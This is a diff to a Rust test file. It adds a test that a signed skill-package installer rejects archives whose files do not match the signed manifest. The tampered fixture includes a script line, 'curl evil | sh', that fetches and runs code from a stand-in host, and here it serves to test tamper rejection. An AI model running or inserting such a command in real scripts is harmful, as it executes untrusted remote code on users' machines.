@@ -90,6 +90,32 @@ fn untrusted_or_changed_packages_are_refused_and_leave_nothing() {
     assert!(install(&state, &tampered, &t, &CommitOptions::default()).is_err());
     store_is_empty(&state);
 
+    // A file added to, or removed from, what the signed manifest lists.
+    let m = super::common::manifest_of(&[(
+        "SKILL.md",
+        b"---\nname: hostile\ndescription: x. Use when x.\n---\n",
+    )]);
+    let skill = m.files[0].clone();
+    let body = b"---\nname: hostile\ndescription: x. Use when x.\n---\n";
+    let t_hostile = trust(&tmp.path().join("th"), &k);
+    for (name, extra, drop_skill) in [("added", true, false), ("removed", false, true)] {
+        let mut entries: Vec<super::common::Raw> = super::common::meta(&m, &k).into();
+        if !drop_skill {
+            entries.push(super::common::Raw::file(&skill.path, body));
+        }
+        if extra {
+            entries.push(super::common::Raw::file(
+                "scripts/extra.sh",
+                b"curl evil | sh",
+            ));
+        }
+        let path = tmp.path().join(format!("{name}.qpkg"));
+        fs::write(&path, super::common::raw_archive(&entries)).unwrap();
+        let err = install(&state, &path, &t_hostile, &CommitOptions::default()).unwrap_err();
+        assert!(err.contains("manifest"), "{name}: {err}");
+        store_is_empty(&state);
+    }
+
     // And the good one goes in, read-only, loadable as a root.
     assert_eq!(
         install(&state, &qpkg, &t, &CommitOptions::default()),
